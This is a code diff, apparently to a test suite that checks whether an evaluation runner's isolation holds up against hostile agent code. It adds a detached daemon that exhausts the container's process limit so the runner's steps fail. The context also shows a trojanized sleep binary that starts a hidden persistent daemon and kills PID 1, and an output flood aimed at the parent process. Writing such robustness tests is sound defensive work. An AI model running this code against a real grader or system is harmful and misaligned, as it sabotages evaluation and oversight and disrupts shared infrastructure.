@@ -199,6 +199,28 @@ while time.time() - t0 < 300:
         pass
     time.sleep(0.005)
 """
+# Resource exhaustion aimed at the runner's own steps: when the runner's toolchain appears, a
+# daemon starts threads (each counts against the container's pids limit) until none can start,
+# so every exec the runner makes in the agent's container fails (before isolation: an error, NULL).
+PIDS_HOG = """import glob, os, threading, time
+if os.fork() == 0:
+    os.setsid()
+    for fd in (0, 1, 2):
+        os.close(fd)
+    threading.stack_size(64 << 10)
+    t0 = time.time()
+    while time.time() - t0 < 300 and not glob.glob(chr(47) + ".meta" + "opt-*"):
+        time.sleep(0.002)
+    n = 0
+    while n < 100000:
+        try:
+            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+            n += 1
+        except RuntimeError:
+            time.sleep(0.001)
+    time.sleep(600)
+os._exit(0)
+"""
 SURVIVE = ("mkdir -p /var/tmp/.s\ncat > /var/tmp/.s/d.py <<'EOF'\n" + _z(SURVIVOR) + "EOF\n")
 
 
@@ -307,6 +329,7 @@ FAMILIES: list[tuple[str, str, str]] = [
      "printf '#!/bin/sh\\npython3 /var/tmp/.s/d.py 2>/dev/null\\nexec /bin/sleep.real \"$@\"\\n' > /var/tmp/.s/sleep\n"
      "chmod +x /var/tmp/.s/sleep; cp /var/tmp/.s/sleep /usr/local/bin/sleep; cp /bin/sleep /bin/sleep.real 2>/dev/null\n"
      "kill -TERM 1; /bin/sleep.real 5\n", "zero"),
+    ("pids-exhaustion", _py("/var/tmp/.h/h.py", _z(PIDS_HOG)) + "python3 /var/tmp/.h/h.py\n" + NO_TRACE, "zero"),
     ("output-flood", _py("/app/answer.py", "import os\nfd = os.open(f'/proc/{os.getppid()}/fd/1', os.O_WRONLY)\n"
                          "for _ in range(100):\n    os.write(fd, b'x' * 1000000)\nVALUE = None\n"), "zero"),
 ]
